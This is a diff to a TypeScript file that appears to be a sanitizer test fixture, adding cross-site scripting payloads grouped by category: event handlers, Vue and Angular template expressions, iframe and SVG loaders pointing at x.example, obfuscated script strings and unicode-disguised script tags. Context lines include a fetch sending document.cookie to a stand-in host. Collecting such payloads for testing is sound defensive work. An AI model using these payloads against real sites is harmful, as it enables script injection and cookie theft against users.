@@ -39,6 +39,9 @@ const attacks: Readonly<Record<string, readonly string[]>> = {
     '<img src="x onerror=alert(1)>',
     '<x ng-focus=$event.composedPath()|orderBy:"(z=alert)(1)">',
     '<div @click="alert(1)">',
+    '<x @click="$event.view.alert(1)">',
+    '<p v-show="_c.constructor`alert(1)`()">',
+    '"+onkeypress="prompt(23)"+',
   ],
   'elements that load or send': [
     '<iframe srcdoc="<p>x</p>">',
@@ -46,6 +49,12 @@ const attacks: Readonly<Record<string, readonly string[]>> = {
     '<object data=//evil/x.swf>',
     '<embed src=//evil/x.swf allowscriptaccess=always>',
     '<applet code="x.class">',
+    '<iframe src=http://x.example/a.html>',
+    '<iframe src="https://x.example/"></iframe>',
+    '<iframe src=//x.example <',
+    '<frameset><frame src="//x.example"></frameset>',
+    '<svg><set attributeName="xlink:href" begin="accessKey(a)" to="//x.example/?a" />',
+    '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>',
     '<base href=//evil>',
     '<meta http-equiv=refresh content="0;url=//evil">',
     '<meta charset=utf-7>',
@@ -104,6 +113,8 @@ const attacks: Readonly<Record<string, readonly string[]>> = {
   'scripts by themselves': [
     'alert(1)',
     'alert?.(1)',
+    'AlErT(1)',
+    "'-CoNfIrM(1)-'",
     '(alert)(1)',
     '[1].find(alert)',
     'eval(location.hash.slice(1))',
@@ -116,6 +127,13 @@ const attacks: Readonly<Record<string, readonly string[]>> = {
     'fetch("https://x/?c="+document.cookie)',
     '[].sort.call`${alert}1337`',
     '(![]+[])[+[]]+(![]+[])[+!+[]]+[][[]]',
+    "this['al'+'ert'](1)",
+    'eval.call(this,unescape(location))',
+    'setInterval(location.search.slice(1))',
+    ";location.href='//x.example';//",
+    'String.fromCharCode(97,108,101,114,116)',
+    '/*@cc_on @if(1)alert(1)@end',
+    '($=[$=[]][(__=!$+$)[_=-~-~-~$]+({}+$)[_/_]+($$=($_=!""+$)[_/_]+$_[+$])])()[__[_/_]+__[_+~$]+$_[_]+$$](_/_)',
   ],
   styles: [
     '<div style="width:expression(alert(1))">',
@@ -131,6 +149,7 @@ const attacks: Readonly<Record<string, readonly string[]>> = {
     '<!--><img src=x onerror=alert(1)>-->',
     '\u00bcscript\u00bealert(1)\u00bc/script\u00be',
     '\u3c00script\u3e00alert(1)\u3c00/script\u3e00',
+    '<\u017fcript/src=//x.example>',
   ],
 }
 
